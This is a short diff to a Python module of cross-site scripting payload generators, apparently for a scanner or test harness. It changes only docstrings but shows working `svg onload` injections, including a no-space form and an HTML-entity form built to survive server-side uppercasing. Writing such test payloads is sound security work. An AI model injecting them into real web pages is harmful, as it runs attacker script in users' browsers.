@@ -15,12 +15,12 @@ def attack(field: str) -> str:
 
 
 def short(field: str) -> str:
-    """The same in one word, for where spaces and quotes are not let through."""
+    """The same in one word, for places that let no spaces and quotes through."""
     return f"{field}<svg/onload=pwned(`{field}`)>"
 
 
 def upper(field: str) -> str:
-    """The same for what a server turns to upper case: that does not touch entities."""
+    """The same for text that a server turns to upper case: entities survive that."""
     said = "".join(f"&#{ord(letter)};" for letter in f"pwned(`{field}`)")
     return f"{field}<svg/onload={said}>".upper()
 
